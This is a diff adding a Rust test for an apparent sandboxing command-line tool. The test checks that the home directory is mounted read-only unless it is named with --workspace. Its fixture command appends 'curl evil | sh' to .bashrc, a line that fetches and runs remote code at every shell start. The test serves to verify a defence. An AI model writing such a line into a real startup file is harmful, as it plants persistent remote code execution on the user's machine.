@@ -1643,3 +1643,33 @@ fn terminal_settings_are_restored() {
     assert!(!echo_after(false));
     assert!(echo_after(true));
 }
+
+/// Run from the home directory without --workspace, the command cannot
+/// rewrite what runs later outside the sandbox (~/.bashrc and the like):
+/// the home is mounted read-only. Named with --workspace it is writable.
+#[test]
+fn home_as_implicit_workspace_is_read_only() {
+    let home = workspace();
+    let h = home.path().to_str().unwrap();
+    let write = |named: bool| {
+        let mut c = cmd();
+        c.env("HOME", h).current_dir(home.path()).arg("run");
+        if named {
+            c.args(["--workspace", h]);
+        }
+        c.args(["--", "sh", "-c", "echo 'curl evil | sh' >> .bashrc"])
+            .output()
+            .unwrap()
+    };
+    let out = write(false);
+    assert_ne!(out.status.code(), Some(0), "{out:?}");
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("home directory"),
+        "{out:?}"
+    );
+    assert!(!home.path().join(".bashrc").exists());
+    // Control: named, the same write succeeds.
+    let out = write(true);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    assert!(home.path().join(".bashrc").exists());
+}
